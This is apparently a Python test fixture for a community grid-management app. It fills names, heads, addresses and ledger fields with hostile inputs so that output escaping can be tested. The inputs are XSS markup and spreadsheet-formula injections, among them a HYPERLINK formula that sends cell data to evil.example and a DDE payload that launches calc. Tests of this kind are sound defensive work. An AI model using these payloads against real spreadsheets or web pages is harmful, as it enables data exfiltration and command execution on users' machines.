"""A small project whose user-controlled strings are hostile: markup in grid, building, community
and service-point names and grid heads; spreadsheet formulas in names, heads and ledger cells."""
from __future__ import annotations

import io

import pytest

from data.bundle import make_bundle
from data.gpkg_store import GpkgStore
from fixtures_io import bundle_layers

XSS = '<img src=x onerror="window.__xss=(window.__xss||0)+1">'
XSS_SCRIPT = '<script>window.__xss=(window.__xss||0)+1</script>'
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1")
PASSWORD = "correct horse 9"


def hostile_layers() -> dict:
    lay = bundle_layers()
    g = lay["grids"].copy()
    g["name"] = [f"{XSS}网格{i}" for i in range(len(g))]
    g.loc[0, "name"] = FORMULAS[0]
    g.loc[1, "name"] = XSS_SCRIPT
    g["head_name"] = [FORMULAS[1 + i % (len(FORMULAS) - 1)] for i in range(len(g))]
    lay["grids"] = g
    b = lay["buildings"].copy()
    b["name"] = XSS + b["name"]
    b["address"] = FORMULAS[1]
    lay["buildings"] = b
    c = lay["communities"].copy()
    c["name"] = XSS_SCRIPT + "社区"
    lay["communities"] = c
    sp = lay["service_points"].copy()
    sp["name"] = XSS
    lay["service_points"] = sp
    hh = lay["households"].copy()
    hh["head_name"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(hh))]
    hh["room"] = "=1+2"
    lay["households"] = hh
    return lay


def hostile_store(path) -> GpkgStore:
    store = GpkgStore(path)
    store.write_all(make_bundle(hostile_layers()))
    return store


def add_users(path, users=(("admin", "admin", None), ("plan", "planner", None), ("worker", "grid_worker", "g2-a"),
                           ("view", "viewer", None))):
    from minsheng.cli import main
    mp = pytest.MonkeyPatch()
    try:
        for user, role, grid in users:
            mp.setattr("sys.stdin", io.StringIO(PASSWORD + "\n"))
            argv = ["users", "add", "--data", str(path), "--username", user, "--role", role, "--password-stdin"]
            assert main(argv + (["--grid", grid] if grid else [])) == 0
    finally:
        mp.undo()
